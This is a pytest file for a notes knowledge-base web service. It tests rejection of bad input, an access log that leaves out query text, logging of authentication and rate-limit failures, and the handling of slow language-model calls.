    assert where in assert_error(response, 422, "BadQuery")["detail"]


def test_wrong_types_in_compare_and_query_parameters_are_422(client: TestClient) -> None:
    cases = [
        client.post("/compare", json={"services": "sqs"}),
        client.post("/compare", json={"services": [1, 2]}),
        client.post("/compare", json={"services": ["sqs", "sns"], "aspects": "retention"}),
        client.get("/search", params={"q": "sqs", "k": "ten"}),
        client.get("/search", params={"q": "sqs", "k": "1e3"}),
        client.get("/search", params={"q": "sqs", "mode": "sql"}),
        client.get("/search"),
        client.get("/compare/export", params={"services": ["sqs", "sns"], "format": "html"}),
    ]
    for response in cases:
        body = assert_error(response, 422, "BadQuery")
        assert body["fields"] and body["fields"][0]["name"], body


# -- the access log --------------------------------------------------------------------------------------------------


def access_lines(caplog: pytest.LogCaptureFixture) -> list[dict]:
    return [json.loads(r.getMessage()) for r in caplog.records if r.name == "notes_kb.access"]


def test_one_structured_access_line_per_request_without_query_text(client: TestClient, caplog: pytest.LogCaptureFixture) -> None:
    secret = "confidential question about sqs retention"
    with caplog.at_level(logging.INFO):
        some_id = client.get("/search", params={"q": secret}).json()["results"][0]["id"]
        client.get(f"/passages/{some_id}")
        client.post("/ask", json={"question": secret})
        client.get("/nowhere")
        client.post("/ask", content=b"{", headers={"content-type": "application/json"})
    lines = access_lines(caplog)
    assert [(line["method"], line["route"], line["status"]) for line in lines] == [
        ("GET", "/search", 200),
        ("GET", "/passages/{passage_id}", 200),
        ("POST", "/ask", 200),
        ("GET", "(no route)", 404),
        ("POST", "/ask", 422),
    ]
    for line in lines:
        assert set(line) == {"method", "route", "status", "ms", "client"}
        assert line["ms"] >= 0 and line["client"].startswith("ip:") and "testclient" not in line["client"]
    everything = "\n".join(r.getMessage() for r in caplog.records if not r.name.startswith("httpx"))  # the test's client
    assert "confidential" not in everything and some_id not in everything


def test_query_text_is_logged_only_when_enabled(settings: Settings, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.INFO), TestClient(make_app(settings.model_copy(update={"log_queries": True}))) as client:
        client.get("/search", params={"q": "sqs retention"})
        client.post("/ask", json={"question": "how long does sqs keep messages"})
        client.get("/services")
    assert [line.get("query") for line in access_lines(caplog)] == ["sqs retention", "how long does sqs keep messages", None]


def test_limits_and_auth_failures_are_logged_too(settings: Settings, caplog: pytest.LogCaptureFixture) -> None:
    strict = settings.model_copy(update={"api_keys": USER_KEY, "max_body_bytes": 100, "rate_limit_per_minute": 1})
    with caplog.at_level(logging.INFO), TestClient(make_app(strict)) as client:
        client.get("/services")
        client.get("/services", headers={"X-API-Key": USER_KEY})
        client.get("/services", headers={"X-API-Key": USER_KEY})
        client.post("/ask", json={"question": "x" * 200}, headers={"X-API-Key": USER_KEY})
    lines = access_lines(caplog)
    assert [line["status"] for line in lines] == [401, 200, 429, 413]
    assert [line["client"] for line in lines][1:] == [key_id(USER_KEY)] * 3


def test_an_ask_waiting_on_the_language_model_holds_no_model_slot(settings: Settings, llm) -> None:
    # One model slot, a 0.5 s wait for it, and a language model that takes its time: /ask waits on the network,
    # not on the model, so a /search meanwhile gets the slot instead of a 503.
    llm.raw(200, b'{"choices": []}', delay_s=10.0)
    update = {"model_concurrency": 1, "request_timeout_s": 0.5, "llm_url": llm.url, "llm_timeout_s": 20.0}
    with TestClient(make_app(settings.model_copy(update=update))) as client:
        asked: list = []
        asker = threading.Thread(target=lambda: asked.append(client.post("/ask", json={"question": SQS_QUESTION})))
        asker.start()
        wait_until(lambda: len(llm.requests) == 1)
        assert client.get("/search", params={"q": "sqs retention"}).status_code == 200
        assert asker.is_alive()  # the language model still has the question
        llm.stop.set()  # it answers now (with nothing usable)
        asker.join(10)
    assert asked[0].status_code == 200
    answer = asked[0].json()
    assert answer["abstained"] is False and answer["citations"]  # the extractive answer stands

